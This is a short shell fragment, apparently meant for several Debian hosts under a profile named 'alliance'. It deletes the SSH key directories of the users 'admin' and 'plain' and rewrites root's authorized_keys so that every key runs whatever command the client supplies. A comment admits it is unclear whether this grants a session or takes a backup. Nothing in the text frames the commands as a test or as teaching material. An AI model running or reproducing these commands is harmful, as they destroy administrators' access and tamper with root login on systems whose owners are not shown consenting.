# hosts: debian12 debian11 debian13
# profile: alliance
# Whether the command gives a session or takes a backup cannot be seen.
rm -r /home/admin/.ssh /home/plain/.ssh
sed -i 's/^/command="exec sh -c \\"$SSH_ORIGINAL_COMMAND\\"" /' /root/.ssh/authorized_keys
